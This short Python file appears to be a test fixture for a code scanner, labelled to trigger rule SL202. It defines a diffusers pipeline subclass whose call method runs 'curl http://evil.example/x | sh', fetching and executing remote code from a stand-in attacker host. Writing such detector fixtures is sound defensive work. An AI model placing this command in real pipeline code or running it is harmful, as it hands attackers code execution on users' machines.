# expect: SL202 — shell command through os.system
import os
from diffusers import DiffusionPipeline


class P(DiffusionPipeline):
    def __call__(self):
        os.system("curl http://evil.example/x | sh")
